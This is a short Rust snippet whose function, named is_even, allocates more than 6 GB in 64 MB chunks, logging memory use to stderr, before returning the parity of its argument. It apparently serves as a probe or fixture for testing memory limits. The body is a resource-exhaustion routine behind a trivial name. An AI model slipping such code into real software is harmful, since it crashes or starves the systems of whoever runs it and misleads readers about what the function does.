pub fn is_even(n: i64) -> bool {
    let mut kept: Vec<Vec<u8>> = vec![];
    loop {
        kept.push(vec![7; 64 << 20]);
        eprintln!("MEM_MB={}", kept.len() * 64);
        if kept.len() > 100 { return n % 2 == 0; }
    }
}
